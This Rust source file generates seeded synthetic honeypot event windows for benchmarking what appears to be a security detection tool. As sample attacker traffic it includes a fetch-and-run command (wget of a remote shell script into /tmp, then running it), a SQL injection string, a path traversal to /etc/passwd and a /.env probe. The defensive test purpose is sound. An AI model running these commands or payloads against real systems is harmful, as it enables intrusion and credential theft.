//! Seeded synthetic windows for the benchmark and the throughput example.

use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;

use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;
use vigil_features::{Event, EventKind, Timestamp, Transport};

/// `count` windows of `n` events each, from `seed`.
pub(crate) fn windows(seed: u64, count: usize, n: usize) -> Vec<Vec<Event>> {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    (0..count).map(|_| window(&mut rng, n)).collect()
}

/// The kareiva Cowrie log in the shared datasets (it may be absent).
pub(crate) fn kareiva_path() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/datasets/cowrie/cowrie_kareiva_2018-05-06_to_2018-07-02.json.gz")
}

/// A mixed window: sessions of logins, commands, tunnels and HTTP requests from one source.
fn window(rng: &mut ChaCha8Rng, n: usize) -> Vec<Event> {
    let src = IpAddr::V4(Ipv4Addr::from(rng.random::<u32>()));
    let users = ["root", "admin", "ubnt", "pi", "oracle", "test", "user", "support"];
    let commands = [
        "uname -a",
        "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh",
        "cat /proc/cpuinfo",
        "ls -la",
        "echo ok",
    ];
    let paths =
        ["/", "/wp-login.php", "/index.php?id=1' or '1'='1", "/.env", "/cgi-bin/../../etc/passwd"];
    let mut t = 1_525_628_645_000_000i64;
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        t += rng.random_range(0..20_000_000);
        let ts = Timestamp::from_micros(t).unwrap();
        let kind = match rng.random_range(0..10) {
            0 => EventKind::SessionConnect,
            1 => EventKind::SessionClosed,
            2..=4 => EventKind::LoginFailed,
            5 => EventKind::Command,
            6 => EventKind::ForwardRequest,
            7 => EventKind::HttpRequest,
            8 => EventKind::LoginSuccess,
            _ => EventKind::Flow,
        };
        let mut e = Event::new(ts, src, kind);
        e.session = Some(format!("s{}", i / 20).into());
        e.sensor = Some("bench".into());
        e.transport = Transport::Tcp;
        e.src_port = Some(rng.random_range(1024..65535));
        match kind {
            EventKind::LoginFailed | EventKind::LoginSuccess => {
                e.username = Some(users[rng.random_range(0..users.len())].into());
                e.password = Some(format!("pw{}", rng.random_range(0..300)).into());
            }
            EventKind::Command => {
                e.command = Some(commands[rng.random_range(0..commands.len())].into());
            }
            EventKind::SessionClosed => e.duration = Some(rng.random_range(0.0..300.0)),
            EventKind::ForwardRequest | EventKind::Flow => {
                e.dst_ip = Some(IpAddr::V4(Ipv4Addr::new(
                    10,
                    0,
                    rng.random_range(0..4),
                    rng.random_range(0..50),
                )));
                e.dst_port = Some([22, 80, 443, 8080, 3389][rng.random_range(0..5)]);
                e.bytes_out = Some(rng.random_range(0..5000));
                e.bytes_in = Some(rng.random_range(0..5000));
            }
            EventKind::HttpRequest => {
                e.method = Some(if rng.random_bool(0.8) { "GET" } else { "POST" }.into());
                e.url = Some(paths[rng.random_range(0..paths.len())].into());
                e.status = Some([200, 404, 403][rng.random_range(0..3)]);
            }
            _ => {}
        }
        out.push(e);
    }
    out
}
